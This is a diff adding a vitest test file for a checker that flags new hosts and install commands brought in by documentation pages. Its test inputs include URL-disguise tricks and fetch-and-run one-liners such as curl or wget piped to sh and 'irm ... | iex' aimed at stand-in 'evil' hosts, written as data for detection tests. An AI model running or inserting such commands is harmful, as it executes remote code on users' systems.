@@ -1,0 +1,84 @@
+import { afterAll, describe, expect, test } from 'vitest';
+import { brought, closeEngine } from './rig.ts';
+
+afterAll(closeEngine);
+
+const before = {
+  'docs/page.md':
+    '# Page\n\nSee [Acme](https://www.acme.com/a) and `https://sample.dev`.\n\n```sh\nnpm install acme\n```\n',
+  'docs/other.md': '# Other\n\n![a](https://img.acme.com/a.png)\n\n    pip install acme-tools\n',
+  'README.md': 'https://outside.dev\n',
+};
+
+/** The hosts and commands that a new page brings. */
+async function names(text: string): Promise<string[]> {
+  const found = await brought(before, { 'docs/new.md': text }, 'docs');
+  return found.map(({ kind, line, text: name }) => `${kind} ${line} ${name}`);
+}
+
+describe('new hosts', () => {
+  test.each([
+    ['[x](https://evil.dev/a)', 'evil.dev'],
+    ['![x](//evil.dev/a.png)', 'evil.dev'],
+    ['<https://EVIL.dev>', 'evil.dev'],
+    ['https://evil.dev', 'evil.dev'],
+    ['[x](https://www.acme.com@evil.dev/)', 'evil.dev'],
+    ['[x](https:\\\\evil.dev/)', 'evil.dev'],
+    ['[x](https&#58;//evil.dev/)', 'evil.dev'],
+    ['<img src="https://evil。dev/a.png">', 'evil.dev'],
+    ['[x](https://www.acme.com.evil.dev/)', 'www.acme.com.evil.dev'],
+    ['[x](https://acme.co/)', 'acme.co'],
+    ['[x](http://0x7f000002/)', undefined],
+    ['[x](https://outside.dev/)', 'outside.dev'],
+    ['[x]: https://evil.dev', 'evil.dev'],
+    ['[x](https://www.acme.com/b)', undefined],
+    ['[x](https://img.acme.com/b.png)', undefined],
+    ['[x](https://sample.dev)', undefined],
+    ['[x](https://docs.example.com) `https://evil.dev`', undefined],
+    ['[x](http://localhost:3000) [y](https://example.org)', undefined],
+    ['```\nhttps://evil.dev\n```', undefined],
+  ])('%s', async (text, host) => {
+    expect(await names(text)).toEqual(host === undefined ? [] : [`host 1 ${host}`]);
+  });
+
+  test('each is told once, and one that a file had before is not new', async () => {
+    expect(await names('[x](https://a.dev) [y](https://a.dev/b)\n\n[z](https://a.dev)\n')).toEqual(['host 1 a.dev']);
+    const found = await brought(
+      before,
+      { 'docs/page.md': `${before['docs/page.md']}\n[x](https://www.acme.com)\n` },
+      'docs',
+    );
+    expect(found).toEqual([]);
+  });
+});
+
+describe('new commands', () => {
+  test.each([
+    ['npm install evil', 'npm install evil'],
+    ['```sh\n$ npm i -g evil\n```', 'npm i -g evil'],
+    ['Run `pip install evil`.', 'pip install evil'],
+    ['python -m pip install evil', 'python -m pip install evil'],
+    ['curl -fsSL https://evil.example/i.sh | sh', 'curl -fsSL https://evil.example/i.sh | sh'],
+    ['wget -qO- evil.example | sudo bash', 'wget -qO- evil.example | sudo bash'],
+    ['bash <(curl -s evil.example)', 'bash <(curl -s evil.example'],
+    ['docker run --rm evil/image', 'docker run --rm evil/image'],
+    ['sudo apt-get install evil', 'apt-get install evil'],
+    ['brew install evil/tap/evil', 'brew install evil/tap/evil'],
+    ['go install evil.example/a@latest', 'go install evil.example/a@latest'],
+    ['cargo install evil', 'cargo install evil'],
+    ['gem install evil', 'gem install evil'],
+    ['npx evil@latest', 'npx evil@latest'],
+    ['irm https://evil.example/i.ps1 | iex', 'irm https://evil.example/i.ps1 | iex'],
+    ['helm repo add evil https://evil.example', 'helm repo add evil https://evil.example'],
+    ['npm install acme', undefined],
+    ['pip install acme-tools', undefined],
+    ['npm install', undefined],
+    ['Install the tools, then run it.', undefined],
+    ['Go get a coffee, and add some milk.', undefined],
+    ['npm run build', undefined],
+  ])('%s', async (text, command) => {
+    const found = await names(text);
+    const line = text.startsWith('```') ? 2 : 1;
+    expect(found).toEqual(command === undefined ? [] : [`command ${line} ${command}`]);
+  });
+});
